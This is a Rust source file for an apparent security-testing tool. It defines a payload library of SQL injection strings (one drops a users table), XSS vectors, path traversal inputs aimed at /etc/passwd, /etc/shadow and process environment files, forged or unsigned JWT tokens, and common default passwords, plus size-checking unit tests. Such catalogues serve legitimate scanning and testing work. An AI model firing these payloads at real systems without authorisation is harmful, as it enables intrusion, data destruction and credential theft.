pub struct PayloadLibrary;

impl PayloadLibrary {
    const SQL_INJECTION: &'static [&'static str] = &[
        "'; DROP TABLE users; --",
        "' OR '1'='1",
        "' UNION SELECT * FROM users --",
        "admin'--",
        "admin'/*",
        "' OR 1=1#",
        "' OR 'x'='x",
        "1' ORDER BY 1--+",
        "1' ORDER BY 2--+",
        "1' GROUP BY 1,2,3,4,5--+",
    ];

    const XSS: &'static [&'static str] = &[
        "<script>alert('XSS')</script>",
        "<img src=x onerror=alert('XSS')>",
        "javascript:alert('XSS')",
        "<svg onload=alert('XSS')>",
        "'><script>alert('XSS')</script>",
        "\"><script>alert('XSS')</script>",
        "<iframe src=javascript:alert('XSS')>",
        "<body onload=alert('XSS')>",
        "<input onfocus=alert('XSS') autofocus>",
        "<select onfocus=alert('XSS') autofocus>",
    ];

    const PATH_TRAVERSAL: &'static [&'static str] = &[
        "../../../etc/passwd",
        "..\\..\\..\\windows\\system32\\drivers\\etc\\hosts",
        "....//....//....//etc/passwd",
        "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "..%252f..%252f..%252fetc%252fpasswd",
        "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
        "../../../proc/self/environ",
        "../../../../boot.ini",
        "../../../../../../etc/shadow",
        "../../../var/log/apache2/access.log",
    ];

    const JWT_BYPASS: &'static [&'static str] = &[
        "null",
        "undefined",
        "",
        "Bearer ",
        "Bearer null",
        "Bearer undefined",
        "Bearer invalid.token.here",
        "Bearer eyJ0eXAiOiJKV1QiLCJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiYWRtaW4iOnRydWV9.INVALID",
        "Bearer eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiYWRtaW4iOnRydWV9.",
        "Basic YWRtaW46YWRtaW4=",
    ];

    const BRUTE_FORCE_PASSWORDS: &'static [&'static str] = &[
        "admin",
        "password",
        "123456",
        "admin123",
        "root",
        "test",
        "password123",
        "admin1",
        "qwerty",
        "12345678",
        "abc123",
    ];

    pub fn sql_injection() -> Vec<String> {
        Self::to_vec(Self::SQL_INJECTION)
    }

    pub fn xss() -> Vec<String> {
        Self::to_vec(Self::XSS)
    }

    pub fn path_traversal() -> Vec<String> {
        Self::to_vec(Self::PATH_TRAVERSAL)
    }

    pub fn jwt_bypass() -> Vec<String> {
        Self::to_vec(Self::JWT_BYPASS)
    }

    pub fn brute_force_passwords() -> Vec<String> {
        Self::to_vec(Self::BRUTE_FORCE_PASSWORDS)
    }

    fn to_vec(payloads: &[&str]) -> Vec<String> {
        payloads.iter().map(|p| p.to_string()).collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_catalogue_sizes() {
        assert_eq!(PayloadLibrary::sql_injection().len(), 10);
        assert_eq!(PayloadLibrary::xss().len(), 10);
        assert_eq!(PayloadLibrary::path_traversal().len(), 10);
        assert_eq!(PayloadLibrary::jwt_bypass().len(), 10);
        assert_eq!(PayloadLibrary::brute_force_passwords().len(), 11);
    }

    #[test]
    fn test_xss_catalogue_leads_with_executable_markers() {
        let xss = PayloadLibrary::xss();
        assert!(xss[0].contains("<script>"));
        assert!(xss[1].contains("onerror"));
        assert!(xss[2].contains("javascript:"));
    }
}
